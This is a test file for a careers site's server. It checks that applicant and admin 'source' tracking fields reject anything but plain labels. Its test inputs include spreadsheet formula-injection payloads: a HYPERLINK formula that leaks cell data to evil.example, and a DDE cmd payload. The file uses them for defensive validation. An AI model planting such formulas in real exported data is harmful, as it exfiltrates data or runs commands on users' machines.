// A source is a plain label (docs/decisions/0043): letters a–z, digits, dots, hyphens, underscores and single
// spaces, starting with a letter or digit. The public application's source fields and the admin's "set
// source" refuse anything else with the field named, and store nothing; a plain label is still taken.
import { beforeEach, describe, expect, it } from 'vitest';
import { applications } from '../../../server/db/schema';
import { bearer, createStaff, injectSignIn } from '../../support/server/auth';
import {
  forgetCachedCareers,
  insertCareer,
  multipart,
  validApplicant,
} from '../../support/server/careers-fixtures';
import { newestApplicationId } from '../../support/server/newest-application';
import { pdfResume } from '../../support/server/resume-files';
import { setupTestApp } from '../../support/server/test-app';
import { getTestDatabase } from '../../support/server/test-database';

const ctx = setupTestApp();
const NOT_PLAIN =
  'Use only letters a–z, digits, dots, hyphens, underscores and single spaces, starting with a letter or digit.';

const FORMULAS = [
  '=hyperlink("http://evil.example/?leak="&a2,"open")',
  "+cmd|' /c calc'!a0",
  '@sum(1+1)',
  '-2+3',
  'a\tb',
  'a\rb',
  'linkedin<script>',
  'café',
];

let careerId: number;
beforeEach(async () => {
  await forgetCachedCareers();
  careerId = (await insertCareer()).id;
});

async function apply(fields: Record<string, string>) {
  const body = await multipart(
    { ...validApplicant, ...fields },
    { name: 'CV.pdf', content: pdfResume(), type: 'application/pdf' },
  );
  return ctx.app.inject({ method: 'POST', url: `/api/careers/${careerId}/applications`, ...body });
}

const stored = async () => (await getTestDatabase()).db.select().from(applications);

describe('the source fields of a public application', () => {
  it.each(FORMULAS)('refuse %j in each field, naming it, and store nothing', async (value) => {
    const res = await apply({ source: value, sourceMedium: value, sourceCampaign: value });
    expect(res.statusCode, res.body).toBe(400);
    expect(res.json().error.fields).toEqual({
      source: NOT_PLAIN,
      sourceMedium: NOT_PLAIN,
      sourceCampaign: NOT_PLAIN,
    });
    expect(await stored()).toEqual([]);
  });

  it('take a plain label, lower-cased, with single spaces between words', async () => {
    const res = await apply({
      source: 'Google.co.in',
      sourceMedium: 'cpc_ads',
      sourceCampaign: 'Autumn  2026-hiring',
    });
    expect(res.statusCode, res.body).toBe(201);
    const [row] = await stored();
    expect([row?.source, row?.sourceMedium, row?.sourceCampaign]).toEqual([
      'google.co.in',
      'cpc_ads',
      'autumn 2026-hiring',
    ]);
  });
});

describe('a source set by an admin', () => {
  it('refuses a formula, naming the field, and keeps the one stored', async () => {
    const { db } = await getTestDatabase();
    await createStaff(db, { username: 'adam', role: 'ADMIN' });
    const admin = bearer(await injectSignIn(ctx.app, 'adam'));
    expect((await apply({ source: 'linkedin' })).statusCode).toBe(201);
    const applicationId = await newestApplicationId();
    const setSource = (source: string) =>
      ctx.app.inject({
        method: 'PUT',
        url: `/api/admin/applications/${applicationId}/source`,
        headers: admin,
        payload: { source },
      });
    for (const value of FORMULAS) {
      const res = await setSource(value);
      expect(res.statusCode, `${value}: ${res.body}`).toBe(400);
      expect(res.json().error.fields).toEqual({ source: NOT_PLAIN });
    }
    expect((await stored())[0]?.source).toBe('linkedin');
    expect((await setSource(' Job Fair  Hyderabad ')).json()).toEqual({
      applicationId,
      source: 'job fair hyderabad',
    });
  });
});
